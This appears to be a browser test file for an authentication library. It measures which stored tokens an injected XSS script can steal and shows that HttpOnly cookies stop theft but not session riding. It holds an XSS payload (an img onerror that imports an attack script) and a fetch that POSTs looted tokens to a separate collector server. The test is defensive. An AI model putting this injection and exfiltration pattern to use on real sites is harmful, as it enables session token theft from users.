// A8: what does a script that an attacker gets onto the page carry away? The same script for every design.
import { once } from 'node:events'
import type { IncomingMessage, Server } from 'node:http'
import { createServer } from 'node:http'
import type { AddressInfo } from 'node:net'
import { join } from 'node:path'
import { build } from 'esbuild'
import type { Auth, RequestInfo } from 'lockjar'
import { toNodeListener } from 'lockjar/node'
import type { Browser } from 'playwright-core'
import { afterAll, beforeAll, describe, expect, it } from 'vitest'
import { createTestAuth, PASSWORD } from '../support/auth.ts'
import { launchChromium } from '../support/chromium.ts'

type Loot = readonly { readonly sink: string; readonly found: string }[]

interface Report {
  readonly loot: Loot
  readonly rode: string
}

const HOLE = '<p>Nice page!</p><img src="/no.png" alt="" onerror="import(\'/attack.js\')">'
const root = join(import.meta.dirname, '../..')

/** Both are attacked; the tokens of either may be kept in cookies or, wrongly, by the page. */
const STRATEGIES = ['jwt', 'opaque'] as const
type Strategy = (typeof STRATEGIES)[number]

let browser: Browser
let site: Server
let elsewhere: Server
let auth: Auth
let origin: string
let scripts: Readonly<Record<string, string>>
/** Every token that the server has made, in a cookie or in a body. */
const minted = new Map<string, string>()
let report: (report: Report) => void = () => {}
let stripHttpOnly = false

async function listen(server: Server): Promise<number> {
  await once(server.listen(0, '127.0.0.1'), 'listening')
  return (server.address() as AddressInfo).port
}

beforeAll(async () => {
  browser = await launchChromium()
  elsewhere = createServer(async (incoming, outgoing) => {
    if (incoming.method === 'POST') report(JSON.parse(await text(incoming)) as Report)
    outgoing.end()
  })
  const collector = `http://127.0.0.1:${await listen(elsewhere)}/collect`
  scripts = {
    '/app.js': await bundle(`import { start } from './test/browser/xss/page.tsx'; start()`),
    '/attack.js': await bundle(attackSource(collector)),
  }
})
afterAll(async () => {
  await browser?.close()
  stop(elsewhere)
})

async function openSite(strategy: Strategy): Promise<void> {
  site = createServer()
  origin = `http://localhost:${await listen(site)}`
  auth = (await createTestAuth({ baseURL: origin, strategy })).auth
  await auth.handler(signInRequest('/auth/register'))
  site.on('request', toNodeListener({ ...auth, handler }, app))
}

function stop(server: Server): void {
  server.close()
  server.closeAllConnections()
}

/** The demo's own attack, and a ride on the session; the loot goes to another site. */
const attackSource = (collector: string): string => `
  import { attack } from './demo/web/attack.ts'
  import { ride } from './demo/web/ride.ts'
  const rode = await ride()
  const loot = await attack()
  await fetch(${JSON.stringify(collector)}, { method: 'POST', mode: 'no-cors', body: JSON.stringify({ loot, rode }) })`

async function bundle(contents: string): Promise<string> {
  const { outputFiles } = await build({
    stdin: { contents, resolveDir: root, loader: 'ts' },
    bundle: true,
    write: false,
    format: 'esm',
    jsx: 'automatic',
    conditions: ['lockjar-source'],
    define: { 'process.env.NODE_ENV': '"production"' },
  })
  return outputFiles[0]?.text ?? ''
}

async function text(incoming: IncomingMessage): Promise<string> {
  const chunks: Buffer[] = []
  for await (const chunk of incoming) chunks.push(chunk as Buffer)
  return Buffer.concat(chunks).toString()
}

function signInRequest(path: string, headers: Record<string, string> = {}): Request {
  return new Request(origin + path, {
    method: 'POST',
    headers: { 'content-type': 'application/json', ...headers },
    body: JSON.stringify({ email: 'ada@example.com', password: PASSWORD }),
  })
}

/** Remembers what was minted; for the positive control it leaves HttpOnly out. */
async function handler(request: Request, info?: RequestInfo): Promise<Response> {
  const response = await auth.handler(request, info)
  const headers = new Headers(response.headers)
  headers.delete('set-cookie')
  for (const line of response.headers.getSetCookie()) {
    const [, name = '', value = ''] = /^([^=]+)=([^;]*)/.exec(line) ?? []
    if (/access_token|refresh_token|session/.test(name) && value) minted.set(value, name)
    headers.append(
      'set-cookie',
      stripHttpOnly ? line.replace('; HttpOnly', '').replace('Path=/auth', 'Path=/') : line,
    )
  }
  return new Response(response.body, { status: response.status, headers })
}

const html =
  '<!doctype html><title>Guest book</title><div id="root"></div><script type="module" src="/app.js"></script>'

async function app(request: Request): Promise<Response> {
  const { pathname } = new URL(request.url)
  const script = scripts[pathname]
  if (script) return new Response(script, { headers: { 'content-type': 'text/javascript' } })
  if (pathname === '/') return new Response(html, { headers: { 'content-type': 'text/html' } })
  if (pathname === '/naive/login') return naiveLogin()
  if (!pathname.startsWith('/api/')) return new Response(null, { status: 404 })
  const guarded = auth.protect((inner) => {
    if (inner.method === 'GET') return new Response(HOLE)
    return Response.json({ task: { id: '1' } }, { status: inner.method === 'POST' ? 201 : 200 })
  })
  return guarded(request)
}

/** What many tutorials do: the tokens go to the page. */
async function naiveLogin(): Promise<Response> {
  const response = await auth.handler(signInRequest('/auth/login', { 'lockjar-tokens': 'body' }))
  const tokens = (await response.json()) as { accessToken: string; refreshToken?: string }
  minted.set(tokens.accessToken, 'accessToken')
  if (tokens.refreshToken) minted.set(tokens.refreshToken, 'refreshToken')
  return Response.json(tokens)
}

/** Signs in to the page with the hole and waits for what reaches the other site. */
async function attackPage(design: 'cookie' | 'storage'): Promise<Report> {
  const context = await browser.newContext()
  const arrived = new Promise<Report>((resolve) => {
    report = resolve
  })
  const page = await context.newPage()
  page.setDefaultTimeout(10_000)
  page.on('pageerror', (error) => console.error(error))
  await page.goto(`${origin}/#${design}`)
  await page.getByRole('button', { name: 'Sign in' }).click()
  const stolen = await arrived
  await context.close()
  return stolen
}

/** Which sink told which token; also where it was turned round or encoded. */
function leaks({ loot }: Report): Readonly<Record<string, readonly string[]>> {
  const found: Record<string, string[]> = {}
  for (const { sink, found: content } of loot) {
    for (const [token, kind] of minted) {
      const shapes = [
        token,
        [...token].reverse().join(''),
        encodeURIComponent(token),
        btoa(token),
        token.slice(0, token.length / 2),
        token.slice(token.length / 2),
      ]
      if (shapes.some((shape) => content.includes(shape)) && !found[sink]?.includes(kind))
        found[sink] = [...(found[sink] ?? []), kind]
    }
  }
  return found
}

describe.each(STRATEGIES)('strategy %s', (strategy) => {
  /** What each sign-in mints. */
  const [COOKIES, TOKENS] = {
    jwt: [
      ['access_token', 'refresh_token'],
      ['accessToken', 'refreshToken'],
    ],
    opaque: [['session'], ['accessToken']],
  }[strategy] as [string[], string[]]

  beforeAll(() => openSite(strategy))
  afterAll(async () => {
    stop(site)
    await auth.close()
  })

  it('tokens kept by the page are lost to it: localStorage, sessionStorage, React state and the requests it sends', async () => {
    stripHttpOnly = false
    minted.clear()
    const found = leaks(await attackPage('storage'))
    expect(found['localStorage']).toContain('accessToken')
    if (strategy === 'jwt') expect(found['sessionStorage']).toContain('refreshToken')
    expect(found['React state and props']).toEqual(expect.arrayContaining(TOKENS))
  })

  it('in HttpOnly cookies none of them is lost, though the script ran, searched every place and reported', async () => {
    stripHttpOnly = false
    minted.clear()
    const stolen = await attackPage('cookie')
    // In the opaque strategy the attack's own refresh makes nothing new.
    expect(minted.size).toBeGreaterThanOrEqual(strategy === 'jwt' ? 4 : 1)
    expect(stolen.loot.length).toBeGreaterThanOrEqual(18)
    const answers = stolen.loot.find(({ sink }) => sink === 'POST /auth/refresh')
    expect(answers?.found).toContain('accessExpiresAt')
    expect(leaks(stolen)).toEqual({})
  })

  it('the positive control: with HttpOnly left out the same script finds them, so it was looking in the right places', async () => {
    stripHttpOnly = true
    minted.clear()
    const found = leaks(await attackPage('cookie'))
    expect(found['document.cookie']).toEqual(expect.arrayContaining(COOKIES))
    expect(found['cookieStore.getAll()']).toContain(COOKIES[0])
    expect(found['Cookies of a same-origin iframe']).toContain(COOKIES[0])
  })

  it('honestly: a script can still ride the session while the page is open, and every design admits it', async () => {
    stripHttpOnly = false
    expect((await attackPage('cookie')).rode).toBe(
      'The script added a task in your name and deleted it again. Both worked.',
    )
  })
})
